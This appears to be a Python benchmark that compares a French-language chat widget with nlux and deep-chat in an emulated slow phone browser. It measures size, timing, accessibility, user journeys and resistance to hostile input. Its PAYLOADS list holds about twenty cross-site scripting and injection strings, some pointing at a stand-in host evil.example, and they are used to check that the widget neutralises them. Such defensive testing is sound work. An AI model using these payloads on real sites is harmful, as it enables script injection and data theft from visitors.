"""The widget measured as a visitor's browser sees it, beside two others: a table in Markdown.

    PYTHONPATH=.:tests/doubles python benchmarks/widget.py [FOLDER]

Under the content policy and against the scripted server of the browser tests, in Debian's Chromium.
FOLDER has the others: npm install --prefix FOLDER @nlux/core@2.17.1 deep-chat@2.4.2
"""

from __future__ import annotations

import gzip
import statistics
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import uvicorn
from playwright.sync_api import Browser, sync_playwright
from starlette.applications import Starlette
from starlette.responses import FileResponse, HTMLResponse, Response
from starlette.routing import Route

from assistant.answers import Outcome
from tests.browser import test_accessibility as accessibility
from tests.browser.conftest import WATCH
from tests.browser.double import (
    CHROMIUM,
    FLAGS,
    SECOND,
    WIDGET,
    Double,
    Widget,
    about,
    answer,
    citation,
    refusal,
    routes,
    summary,
    violations,
)

RUNS = 5
OTHERS = {  # file, how it is put in a page, what shows that it is there
    "nlux 2.17.1": (
        "node_modules/@nlux/core/umd/nlux-core.js",
        "<main id=m></main><script src=FILE></script><script>"
        "window['@nlux/core'].createAiChat().withAdapter({streamText(){}}).mount("
        "document.querySelector('#m'))</script>",
        "textarea",
    ),
    "deep-chat 2.4.2": (
        "node_modules/deep-chat/dist/deepChat.bundle.js",
        '<deep-chat connect=\'{"url":"/"}\'></deep-chat><script type=module src=FILE></script>',
        "#text-input",
    ),
}
OURS = "<assistant-pvd></assistant-pvd><script type=module src=/widget/assistant-pvd.js></script>"
# When the element that is waited for first has a box: as a visitor would see it.
SEEN = """(selector) => {
  const deep = (root) => root.querySelector(selector) ?? [...root.querySelectorAll('*')]
    .map((one) => one.shadowRoot && deep(one.shadowRoot)).find(Boolean)
  const look = () => {
    if (deep(document)?.getClientRects().length) window.seen = performance.now()
    else requestAnimationFrame(look)
  }
  look()
}"""
LONG = """window.blocked = 0
new PerformanceObserver((list) => { for (const { duration } of list.getEntries())
  window.blocked += Math.max(0, duration - 50) }).observe({ type: 'longtask', buffered: true })"""


@contextmanager
def served(folder: Path | None) -> Iterator[Double]:
    """The scripted server, with the pages and files of the others."""
    double = Double("")
    found = [Route("/ours", lambda _: HTMLResponse(f"<!doctype html><html lang=fr>{OURS}"))]
    for number, (file, how, _) in enumerate(OTHERS.values() if folder else ()):
        assert folder is not None
        body = f"<!doctype html><html lang=fr>{how.replace('FILE', f'/other/{number}.js')}"
        found += [
            Route(f"/other/{number}", lambda _, body=body: HTMLResponse(body)),
            Route(f"/other/{number}.js", lambda _, path=folder / file: FileResponse(path)),
        ]
    found.append(Route("/empty", lambda _: Response("<!doctype html>", media_type="text/html")))
    server = uvicorn.Server(
        uvicorn.Config(Starlette(routes=[*routes(double), *found]), port=0, log_level="error")
    )
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.01)
    double.url = f"http://127.0.0.1:{server.servers[0].sockets[0].getsockname()[1]}"
    yield double
    server.should_exit = True
    thread.join()


def phone(browser: Browser, address: str, selector: str) -> tuple[float, float, float, float]:
    """On a slow phone: ms until it is seen, of script, of blocking; MB of heap."""
    context = browser.new_context(viewport={"width": 390, "height": 844})
    page = context.new_page()
    wire = context.new_cdp_session(page)
    wire.send("Performance.enable")
    wire.send("Emulation.setCPUThrottlingRate", {"rate": 4})
    wire.send(
        "Network.emulateNetworkConditions",
        {
            "offline": False,
            "latency": 150,
            "downloadThroughput": 200_000,
            "uploadThroughput": 94_000,
        },
    )
    page.add_init_script(f"{LONG}\n;({SEEN})({selector!r})")
    page.goto(address)
    page.wait_for_function(f"window.seen || {str(address.endswith('/empty')).lower()}")
    page.wait_for_timeout(300)
    seen, blocked = page.evaluate("[window.seen ?? 0, window.blocked]")
    wire.send("HeapProfiler.collectGarbage")
    told = {m["name"]: m["value"] for m in wire.send("Performance.getMetrics")["metrics"]}
    context.close()
    return seen, told["ScriptDuration"] * 1000, blocked, told["JSHeapUsedSize"] / 1e6


def visitor(browser: Browser, double: Double) -> Widget:
    double.says(answer())
    double.about = about()
    page = browser.new_context(viewport={"width": 1280, "height": 800}, locale="fr-FR").new_page()
    page.add_init_script(WATCH)
    return Widget(page, double)


def states(browser: Browser, double: Double) -> tuple[int, int, int]:
    """How many states were looked at, what axe found in them, what the policy refused."""
    seen = found = refused = 0
    for state in accessibility.STATES:
        for width, height in accessibility.SIZES:
            for scheme in ("light", "dark"):
                widget = visitor(browser, double)
                widget.page.set_viewport_size({"width": width, "height": height})
                widget.page.emulate_media(color_scheme="dark" if scheme == "dark" else "light")
                state(widget)
                seen += 1
                found += len(violations(widget.page))
                refused += widget.page.evaluate("window.violations.length")
                double.holds = False
                widget.page.context.close()
    return seen, found, refused


PAYLOADS = [
    "<img src=x onerror=window.hurt=1>",
    "<script>window.hurt=1</script>",
    "<svg onload=window.hurt=1>",
    "<svg><animate onbegin=window.hurt=1 attributeName=x dur=1s>",
    "<details open ontoggle=window.hurt=1>",
    "<iframe srcdoc='<script>top.hurt=1</script>'></iframe>",
    "<a href='javascript:window.hurt=1'>clic</a>",
    "[clic](javascript:window.hurt=1)",
    "![t](https://evil.example/p.gif?d=secret)",
    "javascript:window.hurt=1",
    " \tjava\nscript:window.hurt=1",
    "data:text/html,<script>top.hurt=1</script>",
    'https://evil.example/"onmouseover="window.hurt=1',
    "//evil.example/p.js",
    "</p></article><style>*{display:none}</style>",
    "{{constructor.constructor('window.hurt=1')()}}",
    "${window.hurt=1}",
    "';window.hurt=1//",
    "\u202e<b>renversé</b>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hurt=1>",
]


def hostile(browser: Browser, double: Double) -> tuple[int, int, int]:
    """Strings put in every field of an answer; how many ran, made an element or left for a host."""
    fields = ("title", "publisher", "passage", "quote", "url", "date", "passage_id", "language")
    told = done = left = 0
    for payload in PAYLOADS:
        widget = visitor(browser, double)
        bad = citation(**dict.fromkeys(fields, payload), headings=[payload], printed=payload)
        worse = summary()
        worse["sources"] = [dict.fromkeys(worse["sources"][0], payload)]
        contact = dict.fromkeys(refusal()["contact"], payload)
        reply = answer((payload, [1, 2]), citations=[bad, worse], nearest=[bad], contact=contact)
        reply |= {"id": payload, "asked": payload}
        double.says(reply)
        double.about = about(town=payload, suggestions=[payload], contact=contact)
        told += len(fields) + 2 + len(worse["sources"][0]) + len(contact) + 2 + 3
        hosts: set[str] = set()
        widget.page.on("request", lambda r, hosts=hosts: hosts.add(r.url.split("/")[2]))
        widget.visit().open().ask()
        for pill in widget.page.locator("assistant-pvd .pill").all():
            pill.click()
        panel = widget.page.locator("assistant-pvd .panel")
        done += int(widget.page.evaluate("window.hurt") is not None)
        done += panel.locator("img, script, svg, iframe, style, math, [onload], [onerror]").count()
        done += panel.locator("a:not([href^='http']):not([href^='tel:'])").count()
        left += len(hosts - {double.url.removeprefix("http://")})
        widget.page.context.close()
    return told, done, left


def journey(browser: Browser, double: Double) -> tuple[int, int]:
    """Taps from the launcher to an answer's proof, the question aside; and from it back."""
    widget = visitor(browser, double)
    there = [
        lambda: widget.page.locator("assistant-pvd .launcher").click(),
        lambda: widget.page.get_by_role("button", name="Envoyer").click(),
        lambda: widget.page.get_by_role("button", name="Voir le passage 1").click(),
    ]
    widget.visit()
    for tap in there:
        tap()
        if tap is there[0]:
            widget.page.get_by_label("Votre question").fill("Quand ?")
    assert widget.page.locator("assistant-pvd .proof mark").count() == 1
    widget.page.get_by_role("button", name="Revenir à la réponse").click()
    assert widget.page.locator("assistant-pvd .proof mark").count() == 0
    widget.page.context.close()
    return len(there), 1


def people(browser: Browser, double: Double) -> tuple[int, int]:
    """Endings, and those with no way to a person within one tap, on a page with its contact-url."""
    endings: list[Callable[[Widget], Any]] = [
        lambda widget, outcome=outcome: widget.double.says(answer(outcome=outcome.value))
        for outcome in Outcome
    ]
    endings += [
        lambda widget: widget.double.sends(503, "application/problem+json", {"status": 503}),
        lambda widget: widget.double.sends(429, "application/problem+json", {"status": 429}),
        lambda widget: widget.page.route("**/answers", lambda route: route.abort()),
        lambda widget: widget.double.streams(b"event: status\ndata: {}\n\n"),  # cut short
    ]
    without = 0
    for ending in endings:
        widget = visitor(browser, double)
        widget.visit("contact-url=https://www.exemple.fr/contact").open().equipped()
        ending(widget)
        widget.send()
        widget.page.locator(
            "assistant-pvd :is(.answer:not([data-outcome=waiting]), .alert:not(:empty))"
        ).first.wait_for()
        ways = widget.page.locator("assistant-pvd").locator(
            "a[href^='tel:'], a[href^='mailto:'], a[href$='/contact']"
        )
        without += int(not any(way.is_visible() for way in ways.all()))
        widget.page.context.close()
    return len(endings), without


def main(folder: Path | None) -> None:
    with served(folder) as double, sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        compared = {"<assistant-pvd>": (WIDGET, f"{double.url}/ours", ".launcher")}
        for number, (name, (file, _, seen)) in enumerate(OTHERS.items() if folder else ()):
            assert folder is not None
            compared[name] = (folder / file, f"{double.url}/other/{number}", seen)
        empty = statistics.median(
            phone(browser, f"{double.url}/empty", "x")[3] for _ in range(RUNS)
        )
        print(
            "| | gzip, bytes | seen, ms | script, ms | blocked, ms | heap over an empty page, MB |"
        )
        print("|---|---:|---:|---:|---:|---:|")
        runs: dict[str, list[tuple[float, float, float, float]]] = {name: [] for name in compared}
        for _ in range(RUNS):  # in turn, so that a busy moment is shared
            for name, (_, address, selector) in compared.items():
                runs[name].append(phone(browser, address, selector))
        for name, (file, _, _) in compared.items():
            told = zip(*runs[name], strict=True)
            seen, script, blocked, heap = (statistics.median(each) for each in told)
            size = len(gzip.compress(file.read_bytes(), 9))
            print(f"| {name} | {size} | {seen:.0f} | {script:.0f} | {blocked:.0f} ", end="")
            print(f"| {heap - empty:.1f} |")
        print(f"\nSecond file, on the first opening: {len(gzip.compress(SECOND.read_bytes(), 9))}")
        for name, measure in {
            "States, what axe finds, what the policy refuses": states,
            "Hostile strings, those that did something, other hosts called": hostile,
            "Taps from the launcher to a proof, and back": journey,
            "Endings, those without a person in one tap": people,
        }.items():
            print(f"{name}: {', '.join(map(str, measure(browser, double)))}", flush=True)
        browser.close()


if __name__ == "__main__":
    main(Path(sys.argv[1]) if sys.argv[1:] else None)
